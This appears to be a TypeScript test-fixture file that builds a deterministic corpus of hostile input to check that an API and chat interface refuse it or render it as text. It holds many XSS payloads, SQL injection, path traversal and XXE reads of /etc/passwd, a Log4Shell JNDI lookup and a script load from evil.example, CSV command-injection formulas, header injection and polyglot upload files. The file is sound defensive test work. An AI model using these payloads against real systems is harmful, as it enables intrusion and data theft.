// Generated corpus of hostile and broken input for the abuse suite (API and rendering).
// Deterministic: the same corpus every run, so a failure names a payload that can be replayed.
import * as v from 'valibot';

/** Set by any payload that manages to run: the rendering test checks it stays undefined. */
export const PWNED_FLAG = '__pwned';
const run = `window.${PWNED_FLAG}=1`;

/** Text an agent or customer may legitimately type; it must be stored and shown verbatim, as text. */
export interface TextPayload {
  id: string;
  category: string;
  text: string;
}

/** A request body that must be refused with a 4xx and a JSON reason. */
export interface BodyPayload {
  id: string;
  category: string;
  body: string | Uint8Array;
  contentType: string;
}

/** A file upload; whatever it claims, it must never be served back as something a browser runs. */
export interface FilePayload {
  id: string;
  category: string;
  name: string;
  declaredType: string;
  bytes: Uint8Array;
}

/** A raw multipart request that must be refused with a 4xx. */
export interface MultipartPayload {
  id: string;
  category: string;
  contentType: string;
  body: Uint8Array;
  /** Overrides Content-Length (e.g. a lie far above the limit). */
  contentLength?: number;
  /** Oversized or odd part headers a server may ignore or shorten instead of refusing; never a 5xx either way. */
  mayBeAccepted?: boolean;
}

const SCRIPT_HTML = [
  `<script>${run}</script>`,
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s">`,
  `<iframe src="javascript:window.top.${PWNED_FLAG}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${PWNED_FLAG}=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<form action="javascript:${run}"><button>enviar</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="javascript:/">`,
  `<link rel="stylesheet" href="javascript:${run}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<x onclick="${run}">haz clic</x>`,
  `<a href="https://ok.example/" onclick="${run}">ok</a>`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<slot name="x" onslotchange="${run}"></slot>`,
  `<ow-chat onclick="${run}"></ow-chat>`,
  `<!--?lit$1234567$--><img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<% ${run} %>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
];

const LINKS = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `javascript&colon;${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload="${run}">`,
  `file:///etc/passwd`,
  `https://example.com/"onmouseover="${run}`,
  `https://example.com/'><img src=x onerror=${run}>`,
  `https://example.com/?q=<img src=x onerror=${run}>`,
  `https://example.com/#javascript:${run}`,
  `http://example.com/<script>${run}</script>`,
  `mailto:a@example.com?body=<script>${run}</script>`,
  `https://аpple.com/login`,
  `https://evil.example/\u202Efdp.exe`,
  `[clic](javascript:${run})`,
  `<https://example.com/>"onfocus="${run}"autofocus`,
];

const UNICODE = [
  '\u202Eolleh dlrow',
  'factura_\u202Egnp.exe',
  '\u2066aislado\u2069 \u2067rtl\u2069 \u2068primero\u2069',
  '\u202Dforzado\u202C izquierda',
  'cero\u200Bancho\u200Cno\u200Dunión\u2060palabra\uFEFF',
  '\u200B\u200B\u200B',
  'Z̷̡̧̛̛̖̗̘̙̜̝̞̟̠̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼͇͈͉͍͎̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌̕̚ͅa̴l̶g̵o̸',
  '👩‍👩‍👧‍👦🏳️‍🌈🇨🇴🇵🇪🇨🇱',
  'مرحبا بالعالم Hello',
  'שלום ‏עולם',
  '\u0301\u0302\u0303 combinantes sueltos',
  'line\u2028separator\u2029paragraph',
  'tab\there\vvertical\fform',
  '\r\nSet-Cookie: owned=1\r\n',
  'ＡＢＣ＜script＞fullwidth＜/script＞',
  '\uFFFE\uFFFF no-caracteres',
  '𝕳𝖔𝖑𝖆 𝒎𝒖𝒏𝒅𝒐',
];

const INJECTION = [
  `'; DROP TABLE messages; --`,
  `' OR '1'='1`,
  `"; DELETE FROM customers WHERE "a"="a`,
  `$1 $2 $$ $body$`,
  `\\'\\"\\\\`,
  `%s%s%s%n%x`,
  '${jndi:ldap://evil.example/a}',
  `../../../../etc/passwd`,
  `{"__proto__":{"polluted":"yes"}}`,
  `__proto__`,
  `constructor`,
  `prototype`,
  `toString`,
  `hasOwnProperty`,
  `null`,
  `undefined`,
  `NaN`,
  `[object Object]`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

const LONG = [
  '<'.repeat(4096),
  'a'.repeat(4096),
  '😀'.repeat(2048),
  '\u202E'.repeat(4096),
  `<img src=x onerror=${run}>`.repeat(Math.floor(4096 / `<img src=x onerror=${run}>`.length)),
  'https://example.com/' + 'a'.repeat(4076),
  'x\n'.repeat(2048),
];

const WRAPPERS: [string, (payload: string) => string][] = [
  ['plain', (p) => p],
  ['prefixed', (p) => `hola ${p}`],
  ['suffixed', (p) => `${p} gracias`],
  ['twice', (p) => `${p}\n${p}`],
  ['in-link', (p) => `mira https://ejemplo.com/?q=${p}`],
  ['link-tail', (p) => `https://ejemplo.com/${p}`],
  ['rtl', (p) => `\u202E${p}\u202C`],
  ['zero-width', (p) => `\u200B${p}\u200D`],
];

/** Hostile text that is valid input (at most the message limit): stored verbatim, rendered as text. */
export function hostileTexts(maxLength = 4096): TextPayload[] {
  const out: TextPayload[] = [];
  const groups: [string, string[]][] = [
    ['script-html', SCRIPT_HTML],
    ['link', LINKS],
    ['unicode', UNICODE],
    ['injection', INJECTION],
  ];
  for (const [category, bases] of groups) {
    bases.forEach((base, i) => {
      for (const [wrapper, wrap] of WRAPPERS) {
        const text = wrap(base);
        if (text.length <= maxLength && text.trim().length > 0) out.push({ id: `${category}-${i}-${wrapper}`, category, text });
      }
    });
  }
  LONG.forEach((text, i) => out.push({ id: `long-${i}`, category: 'long', text: text.slice(0, maxLength) }));
  return out;
}

/** Hostile names for fields with a shorter limit and trimming (customer name, tag name). */
export function hostileNames(maxLength: number): TextPayload[] {
  const bases = [...SCRIPT_HTML, ...LINKS, ...UNICODE, ...INJECTION];
  return bases
    .map((text, i) => ({ id: `name-${i}`, category: 'name', text: text.slice(0, maxLength) }))
    .filter((p) => p.text.trim().length > 0);
}

/** Text the database cannot hold as-is (NUL) or that is not well-formed UTF-16: refused, or stored sanitized; never a 5xx. */
export function awkwardTexts(): TextPayload[] {
  return [
    { id: 'nul-1', category: 'nul', text: 'antes\u0000después' },
    { id: 'nul-2', category: 'nul', text: '\u0000' .repeat(10) + 'x' },
    { id: 'surrogate-1', category: 'surrogate', text: 'solo \uD800 alto' },
    { id: 'surrogate-2', category: 'surrogate', text: 'solo \uDC00 bajo' },
    { id: 'surrogate-3', category: 'surrogate', text: '\uDBFF\uDBFF invertido \uDC00\uD800' },
    { id: 'control', category: 'control', text: 'c\u0001\u0002\u0007\u001b[31mrojo\u001b[0m\u007f' },
  ];
}

/** How a field may be mutated into something the schema refuses. */
type FieldKind = 'string' | 'number' | 'boolean' | 'array' | 'object';

const WRONG_VALUES: Record<string, unknown> = {
  null: null,
  number: 123,
  negative: -1,
  float: 1.5,
  huge: 1e308,
  boolean: true,
  emptyString: '',
  string: 'x',
  array: [],
  arrayOfObjects: [{}],
  object: {},
  nested: { a: { b: { c: 1 } } },
  megabyte: 'x'.repeat(1024 * 1024),
  html: `<script>${run}</script>`,
};

function utf8(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

function concat(...parts: (string | Uint8Array)[]): Uint8Array {
  const chunks = parts.map((p) => (typeof p === 'string' ? utf8(p) : p));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.length, 0));
  let offset = 0;
  for (const chunk of chunks) {
    out.set(chunk, offset);
    offset += chunk.length;
  }
  return out;
}

/** 10,000 levels of nesting, as raw JSON (built as text: a real object that deep would overflow serializers). */
export function deepJson(depth = 10_000, key = 'text'): string {
  return `{"${key}":${'['.repeat(depth)}${']'.repeat(depth)}}`;
}

/**
 * Bodies an endpoint must refuse, derived from one valid body: every field given every wrong type, required fields
 * removed, unknown and prototype-polluting keys, broken JSON, bad UTF-8, deep nesting, a megabyte body.
 * Only mutations the endpoint's own schema refuses are kept, so each one is certainly a bad request.
 */
export function badBodies(valid: Record<string, unknown>, schema: v.GenericSchema, fields: Record<string, FieldKind>): BodyPayload[] {
  const json = 'application/json';
  const out: BodyPayload[] = [];
  const refuses = (body: unknown) => !v.safeParse(schema, body).success;
  for (const field of Object.keys(fields)) {
    for (const [label, value] of Object.entries(WRONG_VALUES)) {
      const body = { ...valid, [field]: value };
      if (refuses(body)) out.push({ id: `${field}-${label}`, category: 'wrong-type', body: JSON.stringify(body), contentType: json });
    }
    const { [field]: _removed, ...without } = valid;
    if (refuses(without)) out.push({ id: `${field}-missing`, category: 'missing', body: JSON.stringify(without), contentType: json });
  }
  const validText = JSON.stringify(valid).slice(0, -1);
  const sep = Object.keys(valid).length > 0 ? ',' : '';
  const raw: [string, string, string | Uint8Array][] = [
    ['unknown-field', 'unknown', `${validText}${sep}"isAdmin":true}`],
    ['proto', 'prototype-pollution', `${validText}${sep}"__proto__":{"polluted":"yes"}}`],
    ['constructor-prototype', 'prototype-pollution', `${validText}${sep}"constructor":{"prototype":{"polluted":"yes"}}}`],
    ['nested-proto', 'prototype-pollution', `${validText}${sep}"x":{"__proto__":{"polluted":"yes"}}}`],
    ['deep-json', 'deep-json', deepJson(10_000, Object.keys(fields)[0] ?? 'x')],
    ['deep-object', 'deep-json', '{"a":'.repeat(10_000) + '1' + '}'.repeat(10_000)],
    ['not-json', 'broken-json', 'esto no es JSON'],
    ['truncated', 'broken-json', validText],
    ['trailing-comma', 'broken-json', `${validText},}`],
    ['json-null', 'wrong-type', 'null'],
    ['json-array', 'wrong-type', JSON.stringify([valid])],
    ['json-string', 'wrong-type', JSON.stringify('texto')],
    ['json-number', 'wrong-type', '42'],
    ['empty', 'broken-json', ''],
    ['bad-utf8', 'bad-utf8', concat('{"', new Uint8Array([0xff, 0xfe, 0xfd]), '":1}')],
    ['bad-utf8-overlong', 'bad-utf8', concat('{"x', new Uint8Array([0xc0, 0xaf]), '":1}')],
    ['megabyte-key', 'huge', `{"${'k'.repeat(1024 * 1024)}":1}`],
  ];
  for (const [id, category, body] of raw) {
    if (typeof body === 'string' && body !== '' && category !== 'broken-json' && category !== 'deep-json') {
      try {
        if (!refuses(JSON.parse(body))) continue;
      } catch {
        // unparseable on purpose
      }
    }
    out.push({ id, category, body, contentType: json });
  }
  return out;
}

// A valid 1×1 PNG.
const PNG = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
  (c) => c.charCodeAt(0),
);

export function hostileFiles(): FilePayload[] {
  const html = `<!doctype html><html><body><script>${run};alert(1)</script></body></html>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`;
  const files: FilePayload[] = [
    { id: 'html-as-png', category: 'mismatch', name: 'foto.png', declaredType: 'image/png', bytes: utf8(html) },
    { id: 'html-as-jpeg', category: 'mismatch', name: 'foto.jpg', declaredType: 'image/jpeg', bytes: utf8(html) },
    { id: 'html-as-pdf', category: 'mismatch', name: 'factura.pdf', declaredType: 'application/pdf', bytes: utf8(html) },
    { id: 'html-as-audio', category: 'mismatch', name: 'nota.ogg', declaredType: 'audio/ogg', bytes: utf8(html) },
    { id: 'html', category: 'html', name: 'pagina.html', declaredType: 'text/html', bytes: utf8(html) },
    { id: 'xhtml', category: 'html', name: 'pagina.xhtml', declaredType: 'application/xhtml+xml', bytes: utf8(`<html xmlns="http://www.w3.org/1999/xhtml">${html}</html>`) },
    { id: 'svg-as-png', category: 'mismatch', name: 'logo.png', declaredType: 'image/png', bytes: utf8(svg) },
    { id: 'svg', category: 'svg', name: 'logo.svg', declaredType: 'image/svg+xml', bytes: utf8(svg) },
    { id: 'js-as-audio', category: 'mismatch', name: 'audio.mp3', declaredType: 'audio/mpeg', bytes: utf8(`${run};alert(1)`) },
    { id: 'js', category: 'script', name: 'x.js', declaredType: 'text/javascript', bytes: utf8(`${run};alert(1)`) },
    { id: 'png-html-polyglot', category: 'polyglot', name: 'poly.png', declaredType: 'image/png', bytes: concat(PNG, html) },
    { id: 'gif-js-polyglot', category: 'polyglot', name: 'poly.gif', declaredType: 'image/gif', bytes: utf8(`GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;${run};`) },
    { id: 'pdf-js', category: 'polyglot', name: 'doc.pdf', declaredType: 'application/pdf', bytes: utf8(`%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${html}`) },
    { id: 'empty', category: 'empty', name: 'vacio.png', declaredType: 'image/png', bytes: new Uint8Array(0) },
    { id: 'real-png', category: 'control', name: 'real.png', declaredType: 'image/png', bytes: PNG },
  ];
  const names: [string, string][] = [
    ['dotdot', '../../../../etc/passwd'],
    ['dotdot-win', '..\\..\\..\\windows\\win.ini'],
    ['absolute', '/etc/passwd'],
    ['absolute-win', 'C:\\Windows\\System32\\drivers\\etc\\hosts'],
    ['nul', 'foto.png\u0000.html'],
    ['encoded-dotdot', '..%2F..%2F..%2Fetc%2Fpasswd'],
    ['script-name', `<img src=x onerror=${run}>.png`],
    ['quote-crlf', 'a".png\r\nX-Injected: 1\r\n'],
    ['rtl', 'factura\u202Efdp.exe'],
    ['long', `${'a'.repeat(5000)}.png`],
    ['dot', '.'],
    ['dots', '...'],
    ['spaces', '   '],
    ['unicode', 'ñandú 😀 مرحبا.png'],
    ['semicolon', 'a.png; filename*=UTF-8\'\'evil.html'],
  ];
  for (const [id, name] of names) {
    files.push({ id: `name-${id}`, category: 'filename', name, declaredType: 'image/png', bytes: PNG });
  }
  return files;
}

export function badMultiparts(): MultipartPayload[] {
  const boundary = 'ow-boundary-1234';
  const part = (headers: string, content: string | Uint8Array) => concat(`--${boundary}\r\n${headers}\r\n\r\n`, content, '\r\n');
  const fileHeaders = 'Content-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png';
  const ct = `multipart/form-data; boundary=${boundary}`;
  return [
    { id: 'no-boundary', category: 'bad-multipart', contentType: 'multipart/form-data', body: concat(part(fileHeaders, PNG), `--${boundary}--\r\n`) },
    { id: 'wrong-boundary', category: 'bad-multipart', contentType: `multipart/form-data; boundary=other`, body: concat(part(fileHeaders, PNG), `--${boundary}--\r\n`) },
    { id: 'truncated', category: 'bad-multipart', contentType: ct, body: concat(`--${boundary}\r\n${fileHeaders}\r\n\r\n`, PNG.slice(0, 20)) },
    { id: 'no-closing', category: 'bad-multipart', contentType: ct, body: part(fileHeaders, PNG) },
    { id: 'no-file-field', category: 'bad-multipart', contentType: ct, body: concat(part('Content-Disposition: form-data; name="other"', 'x'), `--${boundary}--\r\n`) },
    { id: 'file-as-text-field', category: 'bad-multipart', contentType: ct, body: concat(part('Content-Disposition: form-data; name="file"', 'solo texto'), `--${boundary}--\r\n`) },
    { id: 'empty-body', category: 'bad-multipart', contentType: ct, body: new Uint8Array(0) },
    { id: 'only-closing', category: 'bad-multipart', contentType: ct, body: utf8(`--${boundary}--\r\n`) },
    { id: 'not-multipart', category: 'bad-multipart', contentType: 'application/json', body: utf8('{"file":"x"}') },
    { id: 'text-plain', category: 'bad-multipart', contentType: 'text/plain', body: utf8('file=x') },
    {
      id: 'huge-header',
      category: 'bad-multipart',
      mayBeAccepted: true,
      contentType: ct,
      body: concat(part(`Content-Disposition: form-data; name="file"; filename="${'h'.repeat(70_000)}.png"\r\nContent-Type: image/png`, PNG), `--${boundary}--\r\n`),
    },
    {
      id: 'many-headers',
      category: 'bad-multipart',
      mayBeAccepted: true,
      contentType: ct,
      body: concat(part(`${fileHeaders}\r\n${Array.from({ length: 5000 }, (_, i) => `X-H${i}: v`).join('\r\n')}`, PNG), `--${boundary}--\r\n`),
    },
    { id: 'garbage', category: 'bad-multipart', contentType: ct, body: concat(new Uint8Array([0xff, 0x00, 0xfe, 0x0d, 0x0a]), 'basura') },
    { id: 'declared-huge', category: 'too-large', contentType: ct, body: concat(part(fileHeaders, PNG), `--${boundary}--\r\n`), contentLength: 2 * 1024 * 1024 * 1024 },
  ];
}

/** Size of the whole corpus, counted the way the suites send it. */
export function corpusSize(bodyPayloadsPerEndpoint: number, endpoints: number): number {
  return hostileTexts().length + hostileNames(200).length + awkwardTexts().length + hostileFiles().length + badMultiparts().length + bodyPayloadsPerEndpoint * endpoints;
}
